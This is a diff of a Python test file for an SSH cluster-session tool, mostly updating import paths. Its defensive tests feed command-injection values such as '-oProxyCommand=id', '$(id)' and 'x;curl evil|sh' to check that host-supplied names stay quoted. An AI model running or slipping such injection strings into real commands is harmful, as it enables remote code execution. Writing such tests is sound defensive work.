@@ -12,9 +12,16 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from lnode import doctor, expiry, listing, livenode, news, rescue, watching
-from lnode.chunks import Chunks, Torn
-from lnode.fields import (
+from lnode.attach import announcements, expiry
+from lnode.attach.announcements import Seen
+from lnode.cluster import panes as cluster_panes
+from lnode.cluster.sessions import picture_of
+from lnode.commands.doctor import checks
+from lnode.commands.ls import table
+from lnode.commands.ls.table import View
+from lnode.commands.rescue import recipes
+from lnode.commands.setup import livenode
+from lnode.remote.fields import (
     LAST_EPOCH,
     Folder,
     HostKey,
@@ -27,12 +34,10 @@ from lnode.fields import (
     epoch,
     number,
 )
-from lnode.listing import View
-from lnode.news import Seen
-from lnode.runs import of_replies
-from lnode.sessions import picture_of
-from lnode.slurm import SQUEUE_FIELDS
-from lnode.sshargs import Option
+from lnode.runs.log_frames import Chunks, Torn
+from lnode.runs.record import of_replies
+from lnode.schedulers.slurm import SQUEUE_FIELDS
+from lnode.ssh.arguments import Option
 
 TEXTS = (NodeName, JobId, SessionId, PaneId, Word, Folder, HostKey)
 # What a host would like to be read as something else: by a shell, by ssh, by a program's options, by a terminal.
@@ -214,13 +219,13 @@ def show(reply: Rows) -> None:
     """All that --ls and an attach make of a reply."""
     picture = picture_of(reply)
     view = View("unity", (picture,), 60, "", of_replies([reply]))
-    listing.table([view], all_columns=True, with_host=True)
-    listing.notes([view])
-    json.dumps(listing.document(view))
+    table.table([view], all_columns=True, with_host=True)
+    table.notes([view])
+    json.dumps(table.document(view))
     for entry in picture.entries:
-        news.truth(entry, "unity", picture)
-        news.title(entry, picture)
-        news.news(entry, Seen("77", waited=True))
+        announcements.truth(entry, "unity", picture)
+        announcements.title(entry, picture)
+        announcements.news(entry, Seen("77", waited=True))
         expiry.pause_s(entry, picture.now)
 
 
@@ -233,16 +238,16 @@ def test_no_number_in_what_runs_there_is_an_error(jobs: Rows) -> None:
 
 def test_no_number_in_other_answers_is_an_error() -> None:
     for reply in twisted({"facts": FACTS}):
-        facts = doctor.parse_facts(reply["facts"])
-        doctor.findings({"host": "unity", "asked": "1700000000", "answered": "1700000001", **facts})
+        facts = checks.parse_facts(reply["facts"])
+        checks.findings({"host": "unity", "asked": "1700000000", "answered": "1700000001", **facts})
         livenode.parse_version(reply["facts"][5])
     for reply in twisted({"facts": PROCESS}):
-        process = rescue.parse(reply["facts"])
+        process = recipes.parse(reply["facts"])
         if not isinstance(process, str):
-            rescue.recipe(process, "unity")
+            recipes.recipe(process, "unity")
     for reply in twisted(LOOK):
-        watching.again(reply)
-        watching.parse_look(reply)
+        cluster_panes.again(reply)
+        cluster_panes.parse_look(reply)
 
 
 @pytest.mark.parametrize("words", NUMBERS)
@@ -259,24 +264,24 @@ def test_no_number_in_a_frame_is_an_error(words: str) -> None:
     "name", ["no_sockets", "state_readonly", "ssh_config_wrong", "remotecommand", "ssh", "asked", "host"]
 )
 def test_a_host_has_no_say_in_the_layers_of_the_laptop(name: str) -> None:
-    assert doctor.parse_facts([f"{name} /home/me/.ssh", "now 1700000000"]) == {"now": "1700000000"}
+    assert checks.parse_facts([f"{name} /home/me/.ssh", "now 1700000000"]) == {"now": "1700000000"}
 
 
 @pytest.mark.parametrize("word", ["-oProxyCommand=id", "x;id", "$(id)", "a b"])
 def test_no_fix_holds_what_a_host_would_have_you_type(word: str) -> None:
-    facts = doctor.parse_facts([f"scheduler_silent {word}", f"term_unknown {word}"])
-    assert doctor.findings({"host": "unity", **facts}) == []
+    facts = checks.parse_facts([f"scheduler_silent {word}", f"term_unknown {word}"])
+    assert checks.findings({"host": "unity", **facts}) == []
 
 
 @pytest.mark.parametrize(("name", "word"), [("x;curl evil|sh", "x;curl evil|sh"), ("--forget", "SESSION")])
 def test_no_name_of_a_session_is_more_than_a_word_of_the_command_beside_it(name: str, word: str) -> None:
     panes = (f"$0 1700000000 1700000000 0 900 %0 f* knode o e77 TIMEOUT 1700000050 w t {name}",)
     picture = picture_of({"host": HOST, "panes": panes, "jobs": (), "end": ()})
-    said = news.truth(picture.entries[0], "unity", picture)
+    said = announcements.truth(picture.entries[0], "unity", picture)
     assert shlex.split(said.rpartition(": ")[2]) == ["lnode", "unity", word, "--renew"]
-    process = rescue.parse(["uid 1", "mine yes", f"session {name}"])
+    process = recipes.parse(["uid 1", "mine yes", f"session {name}"])
     assert not isinstance(process, str)
-    assert shlex.split(rescue.why_safe(process, "unity").rpartition(": ")[2]) == ["lnode", "unity", word]
+    assert shlex.split(recipes.why_safe(process, "unity").rpartition(": ")[2]) == ["lnode", "unity", word]
 
 
 def test_whose_session_it_is_stays_open_where_the_node_has_no_name() -> None:
